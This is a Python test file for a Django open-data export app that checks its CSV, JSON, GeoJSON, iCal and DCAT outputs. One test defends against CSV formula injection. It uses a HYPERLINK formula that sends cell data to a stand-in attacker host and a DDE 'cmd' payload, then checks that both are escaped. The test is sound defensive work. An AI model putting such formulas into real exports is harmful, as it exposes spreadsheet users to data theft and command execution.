import csv
import io
import json
from decimal import Decimal
from xml.etree import ElementTree as ET

import pytest
from django.urls import reverse
from frictionless import Package, system

from manifatture.activities.tests.factories import ActivityFactory, TimeSlotFactory
from manifatture.bookings.services import cancel_booking
from manifatture.directory.models import Organisation
from manifatture.directory.tests.factories import OrganisationFactory, SiteFactory
from manifatture.editions.tests.factories import EditionFactory
from manifatture.opendata.aggregates import AGGREGATES
from manifatture.opendata.dcat import IPA_CODE, NS
from manifatture.opendata.resources import RESOURCES
from manifatture.spaces.models import Space
from manifatture.spaces.tests.factories import SpaceFactory

from .conftest import SECRETS

pytestmark = pytest.mark.django_db


def file_url(name, fmt):
    return reverse("opendata:file", args=[name, fmt])


def read_csv(client, name):
    response = client.get(file_url(name, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def all_public_urls():
    urls = [reverse("api:index"), reverse("api:openapi"), reverse("api:docs")]
    for name, resource in RESOURCES.items():
        urls += [reverse(f"api:{name}-list"), file_url(name, "csv"), file_url(name, "json")]
        if resource.geo:
            urls.append(file_url(name, "geojson"))
    for name in AGGREGATES:
        urls += [file_url(name, "csv"), file_url(name, "json")]
    urls += [
        reverse("opendata:index"),
        reverse("opendata:ical"),
        reverse("opendata:datapackage"),
        reverse("opendata:catalogue"),
    ]
    return urls


def test_no_personal_data_anywhere(client, world):
    urls = all_public_urls()
    # Details too: every row of every list.
    for name, resource in RESOURCES.items():
        for row in client.get(reverse(f"api:{name}-list")).json()["results"]:
            urls.append(reverse(f"api:{name}-detail", args=[row[resource.primary_key]]))
    assert len(urls) > 30
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.content.decode()
        for label, secret in SECRETS.items():
            assert secret not in body, (url, label)
    # The public things are there (the test would pass on empty files otherwise).
    assert (
        world["organisation"].name in client.get(file_url("organisations", "csv")).content.decode()
    )


def test_csv_files(client, world):
    slots = read_csv(client, "slots")
    by_id = {int(row["id"]): row for row in slots}
    assert set(by_id) == {world["slot"].pk, world["other_slot"].pk}
    assert by_id[world["slot"].pk]["places_left"] == "7"
    assert by_id[world["slot"].pk]["cancelled"] == "false"
    activities = read_csv(client, "activities")
    assert [int(row["id"]) for row in activities] == [world["activity"].pk]
    assert list(activities[0]) == [field.name for field in RESOURCES["activities"].fields]
    sites = read_csv(client, "sites")
    assert sites[0]["municipio"] == "3"
    assert sites[0]["nil"] == ""


def test_places_follow_a_cancelled_booking(client, world):
    cancel_booking(world["booking"], by=world["visitor"])
    rows = {int(row["id"]): row for row in read_csv(client, "slots")}
    assert rows[world["slot"].pk]["places_left"] == "10"
    data = client.get(file_url("slots", "json")).json()
    assert {row["id"]: row["places_left"] for row in data}[world["slot"].pk] == 10


def test_geojson(client, world):
    response = client.get(file_url("spaces", "geojson"))
    assert response["Content-Type"] == "application/geo+json; charset=utf-8"
    data = response.json()
    assert data["type"] == "FeatureCollection"
    [feature] = data["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [9.2399, 45.4842]}
    assert feature["properties"]["name"] == world["space"].name
    assert client.get(file_url("calls", "geojson")).status_code == 404
    assert client.get(file_url("bookings", "csv")).status_code == 404


def test_ical_programme(client, world):
    response = client.get(reverse("opendata:ical"))
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    body = response.content.decode()
    assert body.startswith("BEGIN:VCALENDAR\r\n")
    assert body.count("BEGIN:VEVENT") == 2
    assert f"UID:opendata-slot-{world['slot'].pk}@manifatture-aperte" in body
    assert "Attività annullata" not in body
    assert (
        client.get(reverse("opendata:ical"), {"edition": 2018})
        .content.decode()
        .count("BEGIN:VEVENT")
        == 0
    )
    assert client.get(reverse("opendata:ical"), {"edition": "x"}).status_code == 400


def test_landing_page_credits_sources(client):
    response = client.get(reverse("opendata:index"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "CC BY 4.0" in html
    assert "Fonte: Comune di Milano – Open Data, CC BY 4.0" in html
    assert "Fonte: ISTAT, CC BY 4.0 (elaborazione openpolis)" in html
    assert html.count("<h1") == 1
    assert "Access-Control-Allow-Origin" not in response


def test_files_have_cors(client):
    response = client.get(file_url("spaces", "csv"))
    assert response["Access-Control-Allow-Origin"] == "*"


def validate_package(client, tmp_path):
    """Download the data package and its CSV files into tmp_path; validate them."""
    descriptor = client.get(reverse("opendata:datapackage")).json()
    for resource in descriptor["resources"]:
        response = client.get(resource["path"])
        assert response.status_code == 200
        (tmp_path / f"{resource['name']}.csv").write_bytes(response.content)
        resource["path"] = f"{resource['name']}.csv"
    (tmp_path / "datapackage.json").write_text(json.dumps(descriptor))
    with system.use_context(trusted=True):
        return Package(str(tmp_path / "datapackage.json")).validate()


def test_datapackage_validates_with_frictionless(client, world, tmp_path):
    # A second host, fablab in another comune, with its own activity: foreign keys across files.
    other_org = OrganisationFactory()
    other_site = SiteFactory(
        organisation=other_org, comune__istat_code="015077", comune__name="Cinisello Balsamo"
    )
    TimeSlotFactory(
        activity=ActivityFactory(edition=world["edition"], organisation=other_org, site=other_site)
    )
    EditionFactory(year=2018, is_current=False)
    descriptor = client.get(reverse("opendata:datapackage")).json()
    assert [r["name"] for r in descriptor["resources"]] == [*RESOURCES, *AGGREGATES]
    assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
    report = validate_package(client, tmp_path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    # and it really checks: a slot pointing to a missing activity fails
    slots = (tmp_path / "slots.csv").read_text().splitlines()
    header, first = slots[0], slots[1].split(",")
    first[1] = "999999"
    (tmp_path / "slots.csv").write_text("\r\n".join([header, ",".join(first)]) + "\r\n")
    with system.use_context(trusted=True):
        broken = Package(str(tmp_path / "datapackage.json")).validate()
    assert not broken.valid


def q(name: str) -> str:
    prefix, local = name.split(":")
    return f"{{{NS[prefix]}}}{local}"


def test_dcat_catalogue(client, world):
    response = client.get(reverse("opendata:catalogue"))
    assert response["Content-Type"] == "application/rdf+xml; charset=utf-8"
    root = ET.fromstring(response.content)
    [catalogue] = root.findall(q("dcatapit:Catalog"))
    assert (
        catalogue.find(q("dct:publisher")).find(q("dcatapit:Agent")).find(q("dct:identifier")).text
        == IPA_CODE
    )
    datasets = catalogue.findall(f"{q('dcat:dataset')}/{q('dcatapit:Dataset')}")
    assert len(datasets) == len(RESOURCES) + len(AGGREGATES)
    required = [
        "dct:identifier",
        "dct:title",
        "dct:description",
        "dct:modified",
        "dcat:theme",
        "dct:accrualPeriodicity",
        "dct:rightsHolder",
        "dct:publisher",
        "dcat:distribution",
    ]
    for dataset in datasets:
        for name in required:
            assert dataset.find(q(name)) is not None, name
        assert (
            dataset.find(q("dct:rightsHolder"))
            .find(q("dcatapit:Agent"))
            .find(q("dct:identifier"))
            .text
            == IPA_CODE
        )
        for distribution in dataset.findall(
            f"{q('dcat:distribution')}/{q('dcatapit:Distribution')}"
        ):
            for name in ("dct:format", "dcat:accessURL", "dct:license", "dct:title"):
                assert distribution.find(q(name)) is not None, name
            licence = distribution.find(q("dct:license")).find(q("dcatapit:LicenseDocument"))
            assert licence.get(q("rdf:about")).endswith("A21_CCBY40")
            url = distribution.find(q("dcat:downloadURL")).get(q("rdf:resource"))
            assert client.get(url.removeprefix("http://testserver")).status_code == 200


@pytest.mark.parametrize(
    ("name", "fmt"), [(n, "csv") for n in RESOURCES] + [("sites", "geojson"), ("spaces", "geojson")]
)
def test_file_query_count_does_not_grow(client, django_assert_max_num_queries, name, fmt):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from manifatture.opendata.tests.test_api import LIST_FACTORIES

    counts = []
    for n in range(3):
        LIST_FACTORIES[name](n)
        if n == 1:
            continue
        with CaptureQueriesContext(connection) as captured:
            assert client.get(file_url(name, fmt)).status_code == 200
        counts.append(len(captured))
    assert counts[0] == counts[1]


def test_ical_query_count_does_not_grow(client, db):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from manifatture.opendata.tests.test_api import LIST_FACTORIES

    counts = []
    for n in range(3):
        LIST_FACTORIES["slots"](n)
        if n == 1:
            continue
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("opendata:ical")).status_code == 200
        counts.append(len(captured))
    assert counts[0] == counts[1] == 1


def test_space_unpublished_leaves_the_files(client, world):
    space = SpaceFactory(name="Spazio temporaneo")
    assert "Spazio temporaneo" in client.get(file_url("spaces", "csv")).content.decode()
    space.is_published = False
    space.save()
    assert "Spazio temporaneo" not in client.get(file_url("spaces", "csv")).content.decode()


def test_csv_text_a_spreadsheet_would_run_carries_an_apostrophe(client, world, tmp_path):
    """Reusers open the CSV files in spreadsheets: text that would run as a formula
    there gets a leading apostrophe (OWASP); the JSON files and the API give it as
    written; numbers stay numbers; the data package still validates."""
    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Apri")'
    Organisation.objects.filter(pk=world["organisation"].pk).update(
        name=formula, description_it="-2+3+cmd|' /C calc'!A0"
    )
    Space.objects.filter(pk=world["space"].pk).update(
        name="@SUM(1+1)", current_use="\t=1+1", longitude=Decimal("-0.127700")
    )
    [organisation] = read_csv(client, "organisations")
    assert organisation["name"] == "'" + formula
    assert organisation["description_it"] == "'-2+3+cmd|' /C calc'!A0"
    [space] = read_csv(client, "spaces")
    assert (space["name"], space["current_use"]) == ("'@SUM(1+1)", "'\t=1+1")
    assert space["longitude"] == "-0.1277"  # a number, as written
    [as_json] = client.get(file_url("organisations", "json")).json()
    assert as_json["name"] == formula
    api = client.get(reverse("api:organisations-detail", args=[world["organisation"].pk]))
    assert api.json()["name"] == formula
    descriptor = client.get(reverse("opendata:datapackage")).json()
    assert "apostrofo" in descriptor["description"]
    assert "apostrofo" in client.get(reverse("opendata:index")).content.decode()
    english = client.get("/en" + reverse("opendata:index"))
    assert "extra apostrophe" in english.content.decode()
    report = validate_package(client, tmp_path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
